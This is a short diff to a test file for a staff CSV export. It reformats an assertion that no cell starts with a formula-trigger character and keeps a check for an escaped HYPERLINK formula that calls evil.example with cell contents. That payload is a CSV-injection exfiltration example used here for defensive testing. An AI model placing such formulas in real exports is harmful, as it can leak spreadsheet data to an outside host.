@@ -126,7 +126,10 @@ describe("exports", () => {
     const exported = await exportStaff(deps);
     const cells = exported.csv.split("\n").flatMap((line) => line.split(","));
     for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
-      expect(cells.filter((cell) => cell.replace(/^"/, "").startsWith(start)), start).toEqual([]);
+      expect(
+        cells.filter((cell) => cell.replace(/^"/, "").startsWith(start)),
+        start,
+      ).toEqual([]);
     }
     expect(exported.csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
     const target = await freshDeps();
